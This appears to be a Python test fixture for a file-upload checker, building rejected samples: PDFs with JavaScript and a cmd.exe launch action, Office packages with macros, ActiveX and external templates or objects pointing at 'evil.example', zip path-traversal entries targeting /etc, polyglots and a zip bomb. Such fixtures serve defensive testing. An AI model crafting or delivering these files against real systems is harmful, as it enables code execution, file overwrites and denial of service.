"""Files nobody should be able to hand in, and a few honest ones."""

import io
import zipfile

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 64
PARTS = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}
TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MACRO_TYPES = TYPES.replace(
    b"/>", b'><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
RELATION = b'<Relationships><Relationship Type="http://schemas/relationships/%s" Target="http://evil.example/t" TargetMode="External"/></Relationships>'


STEALTHY = b"<Relationships><Relationship TargetMode = 'External' Target='//evil.example/x' Type = 'http://schemas/relationships/%s'/></Relationships>"


def office(kind: str = "docx", types: bytes = TYPES, **_: object) -> bytes:
    return package({"[Content_Types].xml": types, PARTS[kind]: b"<w/>"})


def package(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def with_part(name: str, content: bytes = b"x", kind: str = "docx") -> bytes:
    return package({"[Content_Types].xml": TYPES, PARTS[kind]: b"<w/>", name: content})


def twice(name: str = "word/document.xml") -> bytes:
    """Two parts of one name: two programs read two different files."""
    raw = with_part("word/documenT.xml")
    return raw.replace(b"word/documenT.xml", name.encode())


def encrypted() -> bytes:
    """Marked as encrypted in both directories."""
    raw = bytearray(office())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := raw.find(mark, at + 1)) >= 0:
            raw[at + place] |= 1
    return bytes(raw)


def bomb(part: str, head: bytes, piece: bytes, times: int, tail: bytes = b"", **parts: bytes) -> bytes:
    """A package with one part that unpacks to `times` pieces."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        for name, content in parts.items():
            made.writestr(name, content)
        with made.open(part, "w", force_zip64=True) as entry:
            entry.write(head)
            for _ in range(times):
                entry.write(piece)
            entry.write(tail)
    return out.getvalue()


MEAN: dict[str, tuple[str, bytes]] = {
    "nothing in it": ("a.pdf", b""),
    "a picture in front of a package": ("a.docx", PNG + office()),
    "a PDF in front of a package": ("a.xlsx", PDF + office("xlsx")),
    "a page in front of a PDF": ("a.pdf", b"<html><script>alert(1)</script>" + PDF),
    "a program": ("a.png", b"MZ" + PNG),
    "a page": ("a.jpg", b"<html>"),
    "a PDF with a script": ("a.pdf", PDF + b"<</S/JavaScript/JS(app.alert(1))>>"),
    "a PDF that starts a program": ("a.pdf", PDF + b"<</S /Launch /F (cmd.exe)>>"),
    "macros": ("a.docx", with_part("word/vbaProject.bin")),
    "macros in capitals": ("a.docx", with_part("word/VBAPROJECT.BIN")),
    "macros under another name": ("a.docx", office(types=MACRO_TYPES)),
    "macro sheets of old": ("a.xlsx", with_part("xl/macrosheets/sheet1.xml", kind="xlsx")),
    "controls": ("a.docx", with_part("word/activeX/activeX1.bin")),
    "a template from elsewhere": (
        "a.docx",
        with_part("word/_rels/settings.xml.rels", RELATION % b"attachedTemplate"),
    ),
    "a part from elsewhere": ("a.docx", with_part("word/_rels/document.xml.rels", RELATION % b"oleObject")),
    "a part from elsewhere in other quotes": (
        "a.docx",
        with_part("word/_rels/document.xml.rels", STEALTHY % b"oleObject"),
    ),
    "a part from elsewhere in another encoding": (
        "a.docx",
        with_part(
            "word/_rels/document.xml.rels",
            ('<?xml version="1.0" encoding="utf-16"?>' + (RELATION % b"frame").decode()).encode("utf-16"),
        ),
    ),
    "a picture from elsewhere": ("a.docx", with_part("word/_rels/document.xml.rels", RELATION % b"image")),
    "a picture from elsewhere in a workbook": (
        "a.xlsx",
        with_part("xl/drawings/_rels/drawing1.xml.rels", RELATION % b"image", kind="xlsx"),
    ),
    "entities in its list of parts": (
        "a.docx",
        with_part("word/_rels/document.xml.rels", b"<!DOCTYPE r [<!ENTITY e 'External'>]>" + RELATION % b"hyperlink"),
    ),
    "no list of parts at all": ("a.docx", with_part("word/_rels/document.xml.rels", b"<Relationships>")),
    "macros behind a megabyte of nothing": (
        "a.docx",
        office(types=MACRO_TYPES.replace(b"<Override", b"<!--" + b" " * 1024 * 1024 + b"--><Override")),
    ),
    "a part that climbs": ("a.docx", with_part("../../../etc/cron.d/x")),
    "a part that climbs backwards": ("a.docx", with_part("..\\..\\x")),
    "a part at the root": ("a.docx", with_part("/etc/passwd")),
    "two parts of one name": ("a.docx", twice()),
    "encrypted": ("a.docx", encrypted()),
    "half of it": ("a.docx", office()[:-30]),
    "ten thousand parts": ("a.docx", package({f"p{n}": b"" for n in range(10_000)} | {
        "[Content_Types].xml": TYPES, PARTS["docx"]: b"<w/>"})),
    "a bomb": ("a.docx", bomb(PARTS["docx"], b"", bytes(4 * 1024 * 1024), 130, **{"[Content_Types].xml": TYPES})),
}  # fmt: skip
